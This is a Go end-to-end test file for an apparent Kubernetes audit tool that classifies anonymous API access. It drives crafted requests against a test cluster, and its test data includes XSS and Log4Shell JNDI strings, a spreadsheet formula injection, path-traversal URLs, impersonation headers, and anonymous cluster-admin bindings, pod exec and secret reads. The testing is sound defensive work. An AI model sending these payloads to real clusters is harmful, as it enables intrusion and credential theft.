package e2e

import (
	"bufio"
	"bytes"
	"crypto/tls"
	"fmt"
	"io"
	"net/http"
	"strings"
	"time"

	"github.com/kubeanon/kubeanon/internal/testing/ledger"
)

// request is what is sent, byte by byte, and what the API server must make of
// it. The expectations follow from how the cluster was set up for the phase, not
// from what kubeanon says.
type request struct {
	kind   string
	actor  string // whose credentials; empty for nobody
	method string // GET if empty
	path   string
	agent  string // user agent; empty for one of a few
	header string // lines that end with \r\n
	body   string
	id     string // the Audit-ID that the client chooses
	raw    string // instead of all of the above: what goes over the wire
	cut    bool   // the client leaves as soon as the answer begins

	want expectation
}

// expectation is what must be found of a request.
type expectation struct {
	status   int      // of the answer; 0 for any
	class    string   // empty if nothing must be found
	outcome  string   // of the stages behind the authorizer
	category string   // of the same
	binding  string   // that let it in
	stages   []string // at which there is an event to be found; of a plain request if nil
}

// The stages of the events of a request.
var (
	plain    = []string{"RequestReceived", "ResponseComplete"}
	long     = []string{"RequestReceived", "ResponseStarted", "ResponseComplete"} // watches and tunnels, also refused ones
	refused  = []string{"ResponseStarted"}                                        // credentials that are none: 401
	complete = []string{"ResponseComplete"}                                       // what is only known behind the authorizer
)

// What is expected most.
func denied(category string) expectation {
	return expectation{status: http.StatusForbidden, class: "anonymous", outcome: "denied", category: category}
}

func allowed(status int, category, binding string) expectation {
	return expectation{status: status, class: "anonymous", outcome: "allowed", category: category, binding: binding}
}

func (e expectation) at(stages []string) expectation {
	e.stages = stages
	return e
}

func (e expectation) as(class string) expectation {
	e.class = class
	return e
}

// hits are the events that must be found.
func (e expectation) hits() (hits []ledger.Hit) {
	if e.class == "" {
		return nil
	}
	stages := e.stages
	if stages == nil {
		stages = plain
	}
	for _, stage := range stages {
		hit := ledger.Hit{Stage: stage, Class: e.class, Outcome: e.outcome, Category: e.category, Binding: e.binding, SrcIP: "127.0.0.1"}
		if stage == "RequestReceived" { // nothing is decided yet
			hit.Outcome, hit.Category, hit.Binding = "unknown", "anon_unknown_outcome", ""
		}
		hits = append(hits, hit)
	}
	return hits
}

// agents are those of people, programs and scanners.
var agents = []string{"curl/8.5.0", "kubectl/v1.36.3 (linux/amd64) kubernetes/1a2b3c4", "Go-http-client/2.0", "python-requests/2.31.0", "zgrab/0.x", "kube-probe/1.36", "Mozilla/5.0 (X11; Linux x86_64)"}

// traffic sends requests and writes the ledger.
type traffic struct {
	cluster *cluster
	actors  map[string]tls.Certificate
	phase   string
	ledger  []ledger.Request
	wrong   []string // answers that were not the expected ones: then the expectations say nothing
}

// send sends requests one after the other.
func (f *traffic) send(phase string, requests []request) {
	f.phase = phase
	for _, r := range requests {
		f.one(r)
	}
}

func (f *traffic) one(r request) {
	t := f.cluster.t
	t.Helper()
	who, known := f.actors[r.actor]
	if !known && r.actor != "" {
		t.Fatalf("nobody is called %s", r.actor)
	}
	if r.method == "" {
		r.method = http.MethodGet
	}
	entry := ledger.Request{Phase: f.phase, Kind: r.kind, Actor: r.actor, Method: r.method, Path: r.path, AuditID: r.id}
	if entry.Actor == "" {
		entry.Actor = "nobody"
	}
	conn, err := tls.Dial("tcp", f.cluster.address, f.cluster.tls(who))
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(30 * time.Second)) // else the test says so
	if _, err := io.WriteString(conn, f.wire(r)); err != nil {
		t.Fatal(err)
	}
	answer, err := http.ReadResponse(bufio.NewReader(conn), &http.Request{Method: strings.ToUpper(r.method)})
	if err != nil {
		f.wrong = append(f.wrong, fmt.Sprintf("%s, %s %.80q: no answer: %v", r.kind, r.method, r.path, err))
		return
	}
	var text []byte
	if !r.cut && answer.StatusCode != http.StatusSwitchingProtocols {
		text, _ = io.ReadAll(io.LimitReader(answer.Body, 1<<20)) // for a message
	}
	answer.Body.Close()
	entry.Status = answer.StatusCode
	if entry.AuditID == "" {
		entry.AuditID = answer.Header.Get("Audit-Id")
	}
	if entry.AuditID != "" {
		entry.Hits = r.want.hits()
	}
	f.ledger = append(f.ledger, entry)
	if r.want.status != 0 && r.want.status != answer.StatusCode || r.want.class != "" && entry.AuditID == "" {
		f.wrong = append(f.wrong, fmt.Sprintf("%s, %s: %s %.80q is answered with %d, audit ID %q, want %d: %.300s", f.phase, r.kind, r.method, r.path, answer.StatusCode, entry.AuditID, r.want.status, bytes.TrimSpace(text)))
	}
}

// wire is a request as it goes over the wire.
func (f *traffic) wire(r request) string {
	if r.raw != "" {
		return strings.ReplaceAll(r.raw, "HOST", f.cluster.address)
	}
	var b strings.Builder
	fmt.Fprintf(&b, "%s %s HTTP/1.1\r\nHost: %s\r\n", r.method, r.path, f.cluster.address)
	if !strings.Contains(r.header, "Upgrade:") {
		b.WriteString("Connection: close\r\n")
	}
	switch r.agent {
	case "":
		fmt.Fprintf(&b, "User-Agent: %s\r\n", agents[len(f.ledger)%len(agents)])
	case "none":
	default:
		fmt.Fprintf(&b, "User-Agent: %s\r\n", r.agent)
	}
	if r.id != "" {
		fmt.Fprintf(&b, "Audit-ID: %s\r\n", r.id)
	}
	if r.body != "" && !strings.Contains(r.header, "Content-Type:") {
		b.WriteString("Content-Type: application/json\r\n")
	}
	if r.body != "" || r.method == http.MethodPost || r.method == http.MethodPut || r.method == http.MethodPatch {
		fmt.Fprintf(&b, "Content-Length: %d\r\n", len(r.body))
	}
	return b.String() + r.header + "\r\n" + r.body
}

// upgrade asks for a tunnel. The answer names no audit ID, so the client chooses
// it.
func upgrade(kind, path, id string, want expectation) request {
	return request{
		kind: kind, method: http.MethodPost, path: path, id: id, want: want.at(long),
		header: "Connection: Upgrade\r\nUpgrade: SPDY/3.1\r\nX-Stream-Protocol-Version: v4.channel.k8s.io\r\n",
	}
}

const (
	viewer = "system:public-info-viewer" // the default binding of nobody

	pod     = `{"apiVersion":"v1","kind":"Pod","metadata":{"name":%q},"spec":{"nodeName":"node-a","containers":[{"name":"c","image":"registry.example/c"}]}}`
	binding = `{"apiVersion":"rbac.authorization.k8s.io/v1","kind":%q,"metadata":{"name":%q},"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":%q},"subjects":[{"apiGroup":"rbac.authorization.k8s.io","kind":%q,"name":%q}]}`

	crbs = "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings"
	rbs  = "/apis/rbac.authorization.k8s.io/v1/namespaces/web/rolebindings"
)

// closed is what reaches a cluster that is configured as it comes: nobody may ask
// for more than its health and version.
func closed() (all []request) {
	for _, path := range []string{"/healthz", "/livez", "/readyz", "/readyz?verbose", "/livez?exclude=etcd"} {
		all = append(all, request{kind: "health check", path: path, want: allowed(200, "health_probe", viewer)})
	}
	for _, path := range []string{"/version", "/version/", "/version?x=/api/v1/secrets"} {
		all = append(all, request{kind: "version", path: path, want: allowed(200, "version_probe", viewer)})
	}
	for _, path := range []string{"/livez/ping", "/readyz/etcd", "/healthz/etcd"} {
		all = append(all, request{kind: "part of a health check", path: path, want: denied("denied_health_probe")})
	}
	all = append(all, request{kind: "health check by HEAD", method: http.MethodHead, path: "/healthz", want: denied("denied_health_probe")})
	for _, path := range []string{"/api", "/api/v1", "/apis", "/apis/apps/v1", "/openapi/v2", "/openapi/v3", "/metrics"} {
		all = append(all, request{kind: "discovery", path: path, want: denied("anon_denied_discovery")})
	}
	for _, path := range []string{"/.env", "/wp-login.php", "/index.html", "/.git/config", "/cgi-bin/luci", "/owa/auth/logon.aspx?url=https%3a%2f%2f1%2f", "/search?x=%27%3E%3Cscript%3Ealert(1)%3C/script%3E"} {
		all = append(all, request{kind: "web scan", path: path, want: denied("web_scan_noise")})
	}
	for _, path := range []string{"/api/v1/pods", "/api/v1/namespaces", "/api/v1/nodes", "/api/v1/namespaces/web/configmaps", "/api/v1/namespaces/web/pods/shell", "/apis/apps/v1/namespaces/web/deployments?limit=500"} {
		all = append(all, request{kind: "read", path: path, want: denied("anon_denied_discovery")})
	}
	for _, path := range []string{"/api/v1/secrets", "/api/v1/namespaces/payments/secrets/card-api-key", crbs} {
		all = append(all, request{kind: "read of secrets and access rules", path: path, want: denied("anon_denied_sensitive")})
	}
	all = append(all,
		request{kind: "watch", path: "/api/v1/pods?watch=true", want: denied("anon_denied_discovery").at(long)},
		request{kind: "watch", path: "/api/v1/watch/namespaces/web/secrets", want: denied("anon_denied_sensitive").at(long)},
		request{kind: "log", path: "/api/v1/namespaces/web/pods/shell/log", want: denied("anon_denied_discovery").at(long)},
		request{kind: "create", method: http.MethodPost, path: "/api/v1/namespaces/web/pods", body: fmt.Sprintf(pod, "miner"), want: denied("anon_denied_sensitive")},
		request{kind: "create", method: http.MethodPost, path: crbs, body: fmt.Sprintf(binding, "ClusterRoleBinding", "x", "cluster-admin", "User", "system:anonymous"), want: denied("anon_denied_sensitive")},
		request{kind: "create", method: http.MethodPost, path: "/api/v1/namespaces/web/pods", body: "no JSON", want: denied("anon_denied_sensitive")},
		request{kind: "update", method: http.MethodPut, path: "/api/v1/namespaces/web/configmaps/x", body: "{}", want: denied("anon_denied_sensitive")},
		request{kind: "patch", method: http.MethodPatch, path: "/api/v1/nodes/node-a", header: "Content-Type: application/merge-patch+json\r\n", body: "{}", want: denied("anon_denied_sensitive")},
		request{kind: "delete", method: http.MethodDelete, path: "/api/v1/namespaces/web/pods/shell", want: denied("anon_denied_sensitive")},
		request{kind: "deletecollection", method: http.MethodDelete, path: "/api/v1/namespaces/web/pods", want: denied("anon_denied_sensitive")},
		request{kind: "token", method: http.MethodPost, path: "/api/v1/namespaces/web/serviceaccounts/default/token", body: "{}", want: denied("anon_denied_sensitive")},
		upgrade("exec", "/api/v1/namespaces/web/pods/shell/exec?command=id", "", denied("anon_denied_sensitive")),
		upgrade("portforward", "/api/v1/namespaces/web/pods/shell/portforward?ports=22", "", denied("anon_denied_sensitive")),
		request{kind: "node proxy", path: "/api/v1/nodes/node-a/proxy/run", want: denied("anon_denied_sensitive").at(long)},
	)
	for _, header := range []string{"Impersonate-User: kubernetes-admin\r\n", "Impersonate-User: system:serviceaccount:kube-system:default\r\n", "Impersonate-User: a\r\nImpersonate-Group: system:masters\r\n"} {
		all = append(all, request{kind: "impersonation attempt", path: "/api/v1/namespaces/payments/secrets", header: header, want: denied("anon_impersonation_attempt")})
	}
	for _, header := range []string{
		"Authorization: Basic YWRtaW46YWRtaW4=\r\n", "Authorization: Bearer\r\n", "Authorization: Bearer \r\n", "Authorization: Negotiate abc\r\n", "Authorization: admin\r\n",
		"Cookie: session=admin\r\n", "X-Remote-User: kubernetes-admin\r\nX-Remote-Group: system:masters\r\n",
	} {
		all = append(all, request{kind: "no credentials, though it looks like some", path: "/api/v1/pods", header: header, want: denied("anon_denied_discovery")})
	}
	all = append(all, request{kind: "no credentials, though it looks like some", path: "/api/v1/pods?access_token=abc", want: denied("anon_denied_discovery")})

	// What a client can forge changes nothing: the peer is the last address.
	many := strings.Repeat("198.51.100.7, ", 299) + "198.51.100.7"
	for _, header := range []string{
		"X-Forwarded-For: 10.0.0.1\r\n", "X-Forwarded-For: 127.0.0.1, ::1, no address, 203.0.113.9:443\r\n", "X-Forwarded-For: " + many + "\r\n",
		"X-Forwarded-For: 203.0.113.9\r\nX-Forwarded-For: 192.168.1.1\r\n", "X-Real-Ip: 10.96.0.1\r\n", "Forwarded: for=10.0.0.1\r\n", "X-Forwarded-For: ::ffff:10.0.0.1\r\n",
	} {
		all = append(all, request{kind: "forged address", path: "/api/v1/secrets", header: header, want: denied("anon_denied_sensitive")})
	}
	for _, agent := range []string{
		"none", strings.Repeat("A", 2000), `"user":{"username":"alice"}`, `\u0022,\"username\":\"system:admin`, `<img src=x onerror=alert(1)>`, "=cmd|' /C calc'!A0",
		"kube-probe/1.36", "ELB-HealthChecker/2.0", "system:admin", "тест 测试 \u202egnp.exe", "%s%n ${jndi:ldap://198.51.100.1/a}", "kube-hunter",
	} {
		all = append(all, request{kind: "odd user agent", path: "/api/v1/secrets", agent: agent, want: denied("anon_denied_sensitive")})
	}
	all = append(all,
		request{kind: "two requests with one audit ID", path: "/api/v1/secrets", id: "e2e-twin", want: denied("anon_denied_sensitive")},
		request{kind: "two requests with one audit ID", path: "/healthz", id: "e2e-twin", want: allowed(200, "health_probe", viewer)},
		request{kind: "chosen audit ID", path: "/api/v1/secrets", id: strings.Repeat("e2e-", 17), want: denied("anon_denied_sensitive")},
		request{kind: "chosen audit ID", path: "/api/v1/secrets", id: `e2e-<x>&"y" 'z'\n`, want: denied("anon_denied_sensitive")},
		request{kind: "chosen audit ID", path: "/api/v1/secrets", id: "e2e-тест", want: denied("anon_denied_sensitive")},
	)
	// Odd URLs: the API server decodes and cleans names, and logs the URL as it came.
	for path, category := range map[string]string{
		"//api/v1/secrets":                                    "anon_denied_sensitive",
		"/%61pi/v1/secrets":                                   "anon_denied_sensitive",
		"/api/v1/secrets/":                                    "anon_denied_sensitive",
		"/api/v1/namespaces/web/secrets/a%00b":                "anon_denied_sensitive",
		"/api/v1/namespaces/web/secrets/%0d%0ax%1b%5b31m":     "anon_denied_sensitive",
		"/api/v1/namespaces/web/secrets/%e2%80%aegnp":         "anon_denied_sensitive",
		"/api/v1/namespaces/web/secrets/..%2f..%2fadmin":      "anon_denied_sensitive",
		"/api/v1/secrets?" + strings.Repeat("x", 60_000):      "anon_denied_sensitive",
		"/api/v1/pods?fieldSelector=%22user%22%3A%7B%22alice": "anon_denied_discovery",
		"/healthz/../api/v1/secrets":                          "web_scan_noise", // the API server does not clean it
		"/livez/%2e%2e/metrics":                               "web_scan_noise",
	} {
		all = append(all, request{kind: "odd URL", path: path, want: denied(category)})
	}
	for _, method := range []string{"OPTIONS", "TRACE", "PROPFIND"} {
		all = append(all,
			// Its verb is empty, which may stand for anything.
			request{kind: "odd method", method: method, path: "/api/v1/pods", want: denied("anon_denied_sensitive")},
			request{kind: "odd method", method: method, path: "/.env", want: denied("web_scan_noise")})
	}
	all = append(all,
		request{kind: "absolute form", raw: "GET https://elsewhere.example/api/v1/secrets HTTP/1.1\r\nHost: HOST\r\nConnection: close\r\n\r\n", want: denied("anon_denied_sensitive")},
		request{kind: "HTTP/1.0", raw: "GET /api/v1/secrets HTTP/1.0\r\n\r\n", want: denied("anon_denied_sensitive")},
		// What the server refuses before it audits.
		request{kind: "no request", raw: "no request at all\r\n\r\n", want: expectation{status: 400}},
		request{kind: "no request", raw: "GET /api HTTP/1.1\r\nHost: a b\r\n\r\n", want: expectation{status: 400}},
		request{kind: "no request", raw: "GET /api HTTP/1.1\r\n\r\n", want: expectation{status: 400}},
		request{kind: "no request", raw: "GET /api HTTP/1.1\r\nHost: HOST\r\nUser-Agent: \x1b[31m\r\n\r\n", want: expectation{status: 400}},
	)
	return append(all, others()...)
}

// others are requests of somebody that name anonymous, and identities that are
// anonymous in part.
func others() (all []request) {
	impersonated := func(status int, outcome, binding string) expectation {
		return expectation{status: status, class: "impersonated_anonymous", outcome: outcome, category: "impersonated_anonymous", binding: binding, stages: complete}
	}
	rejected := expectation{status: 401, class: "rejected_401", outcome: "denied", category: "rejected_401", stages: refused}
	return append(all,
		request{kind: "decoy", actor: "admin", path: "/api/v1/namespaces/web/configmaps", agent: "system:anonymous"},
		request{kind: "decoy", actor: "admin", path: "/api/v1/pods?labelSelector=x%3Dsystem:anonymous"},
		request{kind: "decoy", actor: "admin", path: "/api/v1/pods", agent: `{"username":"system:anonymous","groups":["system:unauthenticated"]}`},
		request{kind: "decoy", actor: "admin", path: "/api/v1/pods", header: "X-Remote-User: system:anonymous\r\n"},
		request{kind: "decoy", actor: "admin", method: http.MethodPost, path: "/api/v1/namespaces/web/configmaps", want: expectation{status: 201},
			body: `{"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"decoy"},"data":{"user":"{\"username\":\"system:anonymous\",\"groups\":[\"system:unauthenticated\"]}"}}`},
		request{kind: "decoy", actor: "admin", method: http.MethodPost, path: "/apis/authorization.k8s.io/v1/subjectaccessreviews", want: expectation{status: 201},
			body: `{"apiVersion":"authorization.k8s.io/v1","kind":"SubjectAccessReview","spec":{"user":"system:anonymous","groups":["system:unauthenticated"],"resourceAttributes":{"verb":"list","resource":"secrets"}}}`},
		request{kind: "somebody", actor: "alice", path: "/api/v1/secrets", want: expectation{status: 403}},
		request{kind: "somebody", actor: "alice", path: "/version", want: expectation{status: 200}},
		request{kind: "another letter case", actor: "System:Anonymous", path: "/api/v1/secrets", want: expectation{status: 403}},
		request{kind: "the name by certificate", actor: "system:anonymous", path: "/api/v1/secrets", want: denied("anon_denied_sensitive").as("anonymous_user_only")},
		request{kind: "the name by certificate", actor: "system:anonymous", path: "/.env", want: denied("web_scan_noise").as("anonymous_user_only")},
		request{kind: "the group by certificate", actor: "bob", path: "/api/v1/secrets", want: denied("anon_denied_sensitive").as("unauthenticated_group_only")},
		request{kind: "the group by certificate", actor: "bob", path: "/healthz", want: allowed(200, "health_probe", viewer).as("unauthenticated_group_only")},
		request{kind: "impersonated", actor: "admin", path: "/api/v1/secrets", header: "Impersonate-User: system:anonymous\r\n", want: impersonated(403, "denied", "")},
		request{kind: "impersonated", actor: "admin", path: "/version", header: "Impersonate-User: system:anonymous\r\n", want: impersonated(200, "allowed", viewer)},
		request{kind: "impersonated", actor: "admin", path: "/api/v1/pods", header: "Impersonate-User: alice\r\nImpersonate-Group: system:unauthenticated\r\n", want: impersonated(403, "denied", "")},
		request{kind: "rejected", path: "/api/v1/pods", header: "Authorization: Bearer none\r\n", want: rejected},
		request{kind: "rejected", path: "/healthz", header: "Authorization: Bearer eyJhbGciOiJub25lIn0.e30.\r\n", want: rejected},
		request{kind: "rejected", actor: "stranger", path: "/version", want: rejected},
	)
}

// opening are the administrator's mistakes: writes that let nobody in, in every
// form of a write, and some that look alike and do not.
func opening() []request {
	grant := func(status int, name string) expectation {
		return expectation{status: status, class: "anonymous_access_granted", outcome: "allowed", category: "anonymous_access_granted", binding: name, stages: complete}
	}
	subjects := `{"kind":"Group","apiGroup":"rbac.authorization.k8s.io","name":"system:unauthenticated"}`
	merge := "Content-Type: application/merge-patch+json\r\n"
	all := []request{
		{kind: "binding of somebody", method: http.MethodPost, path: crbs, body: fmt.Sprintf(binding, "ClusterRoleBinding", "e2e-benign", "view", "User", "alice"), want: expectation{status: 201}},
		{kind: "label of a binding", method: http.MethodPatch, path: crbs + "/e2e-benign", header: merge, body: `{"metadata":{"labels":{"note":"system-anonymous"}}}`, want: expectation{status: 200}},
		{kind: "binding by patch", method: http.MethodPatch, path: crbs + "/e2e-benign", header: merge, body: `{"subjects":[` + subjects + `]}`, want: grant(200, "e2e-benign")},
		{kind: "label of a binding that is open", method: http.MethodPatch, path: crbs + "/e2e-benign", header: merge, body: `{"metadata":{"labels":{"note":"x"}}}`, want: expectation{status: 200}},
		{kind: "binding by delete", method: http.MethodDelete, path: crbs + "/e2e-benign", want: expectation{status: 200}},
		{kind: "binding by JSON patch", method: http.MethodPost, path: crbs, body: fmt.Sprintf(binding, "ClusterRoleBinding", "e2e-json", "view", "User", "alice"), want: expectation{status: 201}},
		{kind: "binding by JSON patch", method: http.MethodPatch, path: crbs + "/e2e-json", header: "Content-Type: application/json-patch+json\r\n", body: `[{"op":"add","path":"/subjects/-","value":` + subjects + `}]`, want: grant(200, "e2e-json")},
		{kind: "binding by apply", method: http.MethodPatch, path: rbs + "/e2e-apply?fieldManager=e2e", header: "Content-Type: application/apply-patch+yaml\r\n", body: fmt.Sprintf(binding, "RoleBinding", "e2e-apply", "view", "User", "system:anonymous"), want: grant(201, "e2e-apply/web")},
		{kind: "binding by create", method: http.MethodPost, path: rbs, body: fmt.Sprintf(binding, "RoleBinding", "e2e-create", "view", "Group", "system:unauthenticated"), want: grant(201, "e2e-create/web")},
		{kind: "binding by update", method: http.MethodPut, path: rbs + "/e2e-create", body: fmt.Sprintf(binding, "RoleBinding", "e2e-create", "view", "User", "system:anonymous"), want: grant(200, "e2e-create/web")},
		{kind: "binding, dry run", method: http.MethodPost, path: crbs + "?dryRun=All", body: fmt.Sprintf(binding, "ClusterRoleBinding", "e2e-dry", "cluster-admin", "User", "system:anonymous"), want: grant(201, "e2e-dry")},
		{kind: "binding by somebody who may not", method: http.MethodPost, path: crbs, body: fmt.Sprintf(binding, "ClusterRoleBinding", "e2e-alice", "view", "User", "system:anonymous"), want: expectation{status: 403}},
		{kind: "binding by delete", method: http.MethodDelete, path: crbs + "/e2e-json", want: expectation{status: 200}},
		{kind: "binding by delete", method: http.MethodDelete, path: rbs + "/e2e-apply", want: expectation{status: 200}},
		{kind: "binding by delete", method: http.MethodDelete, path: rbs + "/e2e-create", want: expectation{status: 200}},
	}
	for i := range all {
		all[i].actor = "admin"
		if strings.Contains(all[i].kind, "who may not") {
			all[i].actor = "alice"
		}
	}
	return all
}

// open binds nobody to a role, as the administrator.
func open(path, kind, name, role, subject, subjectName string) request {
	known := name
	if kind == "RoleBinding" {
		known += "/web" // as the authorizer calls it
	}
	return request{
		kind: "binding", actor: "admin", method: http.MethodPost, path: path, body: fmt.Sprintf(binding, kind, name, role, subject, subjectName),
		want: expectation{status: 201, class: "anonymous_access_granted", outcome: "allowed", category: "anonymous_access_granted", binding: known, stages: complete},
	}
}

func closeAgain(path string) request {
	return request{kind: "binding", actor: "admin", method: http.MethodDelete, path: path, want: expectation{status: 200}}
}

// reader is what nobody does where the role e2e-reader is bound to it.
func reader() (all []request) {
	const by = "e2e-reader"
	for path, category := range map[string]string{
		"/api/v1/pods": "anon_resource_read", "/api/v1/namespaces/web/pods/shell": "anon_resource_read",
		"/api/v1/namespaces/web/configmaps": "anon_sensitive_read", "/api/v1/namespaces/payments/secrets": "anon_credential_access",
		"/api/v1/namespaces/payments/secrets/card-api-key": "anon_credential_access", "/api": "anon_api_discovery", "/metrics": "anon_api_discovery",
	} {
		all = append(all, request{kind: "read", path: path, want: allowed(200, category, by)})
	}
	return append(all,
		request{kind: "read of nothing", path: "/api/v1/namespaces/web/pods/none", want: allowed(404, "anon_resource_read", by)},
		request{kind: "watch", path: "/api/v1/pods?watch=true", cut: true, want: allowed(200, "anon_resource_read", by).at(long)},
		request{kind: "watch", path: "/api/v1/secrets?watch=true&timeoutSeconds=1", want: allowed(200, "anon_credential_access", by).at(long)},
		request{kind: "log", path: "/api/v1/namespaces/web/pods/shell/log", want: allowed(200, "anon_sensitive_read", by).at(long)},
		request{kind: "more than it may", path: "/apis/apps/v1/deployments", want: denied("anon_denied_discovery")},
		request{kind: "more than it may", method: http.MethodPost, path: "/api/v1/namespaces/web/pods", body: fmt.Sprintf(pod, "x"), want: denied("anon_denied_sensitive")},
		request{kind: "health check", path: "/healthz", want: allowed(200, "health_probe", viewer)},
	)
}

// writer is what nobody does where it may do everything in the namespace web.
func writer() []request {
	const by, web = "e2e-writer/web", "/api/v1/namespaces/web"
	return []request{
		{kind: "create", method: http.MethodPost, path: web + "/pods", body: fmt.Sprintf(pod, "miner"), want: allowed(201, "anon_workload_change", by)},
		{kind: "create of nonsense", method: http.MethodPost, path: web + "/pods", body: fmt.Sprintf(pod, "NOT A NAME"), want: allowed(422, "anon_allowed_failed", by)},
		{kind: "create of nonsense", method: http.MethodPost, path: web + "/pods", body: "no JSON", want: allowed(400, "anon_allowed_failed", by)},
		{kind: "create", method: http.MethodPost, path: "/apis/batch/v1/namespaces/web/cronjobs", body: "{}", want: allowed(422, "anon_allowed_failed", by)},
		{kind: "create", method: http.MethodPost, path: web + "/services", body: `{"apiVersion":"v1","kind":"Service","metadata":{"name":"s"},"spec":{"ports":[{"port":80}]}}`, want: allowed(201, "anon_write", by)},
		{kind: "patch", method: http.MethodPatch, path: web + "/pods/miner", header: "Content-Type: application/merge-patch+json\r\n", body: `{"metadata":{"labels":{"a":"b"}}}`, want: allowed(200, "anon_workload_change", by)},
		upgrade("exec", web+"/pods/shell/exec?command=id&container=c&stdout=true", "e2e-exec", allowed(101, "anon_code_execution", by)),
		upgrade("attach", web+"/pods/shell/attach?container=c&stdout=true", "e2e-attach", allowed(101, "anon_code_execution", by)),
		upgrade("portforward", web+"/pods/shell/portforward?ports=22", "e2e-portforward", allowed(101, "anon_code_execution", by)),
		{kind: "exec without a tunnel", method: http.MethodPost, path: web + "/pods/shell/exec?command=id&container=c", want: allowed(400, "anon_code_execution", by).at(long)},
		{kind: "service proxy", path: web + "/services/s/proxy/", want: allowed(0, "anon_code_execution", by).at(long)},
		{kind: "token", method: http.MethodPost, path: web + "/serviceaccounts/builder/token", body: `{"apiVersion":"authentication.k8s.io/v1","kind":"TokenRequest","spec":{}}`, want: allowed(201, "anon_credential_access", by)},
		{kind: "read of secrets", path: web + "/secrets", want: allowed(200, "anon_credential_access", by)},
		{kind: "binding by nobody", method: http.MethodPost, path: rbs, body: fmt.Sprintf(binding, "RoleBinding", "e2e-persist", "view", "User", "system:anonymous"), want: allowed(201, "anon_rbac_change", by)},
		{kind: "delete", method: http.MethodDelete, path: web + "/pods/miner?gracePeriodSeconds=0", want: allowed(200, "anon_destructive", by)},
		{kind: "deletecollection", method: http.MethodDelete, path: web + "/services", want: allowed(200, "anon_destructive", by)},
		{kind: "more than it may", path: "/api/v1/namespaces/payments/secrets", want: denied("anon_denied_sensitive")},
		{kind: "binding", actor: "admin", method: http.MethodDelete, path: rbs + "/e2e-persist", want: expectation{status: 200}},
	}
}

// administrator is what nobody does where it is bound to cluster-admin.
func administrator() (all []request) {
	const by = "e2e-admin"
	can := func(status int) expectation { return allowed(status, "anon_cluster_admin", by) }
	for _, path := range []string{"/api/v1/secrets", "/apis", "/metrics", crbs, "/api/v1/nodes/node-b"} {
		all = append(all, request{kind: "read", path: path, want: can(0)})
	}
	return append(all,
		request{kind: "create", method: http.MethodPost, path: crbs, body: fmt.Sprintf(binding, "ClusterRoleBinding", "e2e-other", "cluster-admin", "User", "mallory"), want: can(201)},
		request{kind: "create", method: http.MethodPost, path: "/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations", want: can(201),
			body: `{"apiVersion":"admissionregistration.k8s.io/v1","kind":"ValidatingWebhookConfiguration","metadata":{"name":"e2e"},"webhooks":[]}`},
		request{kind: "node proxy", path: "/api/v1/nodes/node-a/proxy/pods", want: can(400).at(long)}, // it does not proxy to loopback
		upgrade("exec", "/api/v1/namespaces/web/pods/shell/exec?command=id&container=c&stdout=true", "e2e-exec-admin", can(101)),
		request{kind: "delete", method: http.MethodDelete, path: crbs + "/e2e-other", want: can(200)},
		request{kind: "deletecollection", method: http.MethodDelete, path: "/api/v1/namespaces/web/secrets", want: can(200)},
	)
}

// impersonating is what nobody does as somebody else where cluster-admin lets it.
// The authorizer then decides about that other identity and names no binding of
// nobody's: the event is anonymous and was let in, and that is what is held.
func impersonating() []request {
	return []request{
		{kind: "impersonation that succeeds", path: "/api/v1/namespaces/payments/secrets", header: "Impersonate-User: kubernetes-admin\r\nImpersonate-Group: system:masters\r\n", want: allowed(200, "anon_credential_access", "")},
		{kind: "impersonation that succeeds", path: "/api", header: "Impersonate-User: alice\r\n", want: allowed(200, "anon_impersonation", "")},
	}
}

// afterwards is the closed cluster again.
func afterwards() []request {
	return []request{
		{kind: "read", path: "/api/v1/secrets", want: denied("anon_denied_sensitive")},
		{kind: "read", path: "/api/v1/pods", want: denied("anon_denied_discovery")},
	}
}

// restricted is what reaches an API server whose AuthenticationConfiguration lets
// nobody in but at /livez and /healthz.
func restricted() (all []request) {
	for _, path := range []string{"/livez", "/healthz", "/healthz?verbose"} {
		all = append(all, request{kind: "health check", path: path, want: allowed(200, "health_probe", viewer)})
	}
	for _, path := range []string{"/healthz/", "/livez/ping", "/readyz", "/version", "/api", "/api/v1/secrets", "/.env"} {
		all = append(all, request{kind: "elsewhere", path: path, want: expectation{status: 401, class: "rejected_401", outcome: "denied", category: "rejected_401", stages: refused}})
	}
	return append(all,
		request{kind: "somebody", actor: "alice", path: "/version", want: expectation{status: 200}},
		request{kind: "health check by HEAD", method: http.MethodHead, path: "/livez", want: denied("denied_health_probe")},
	)
}
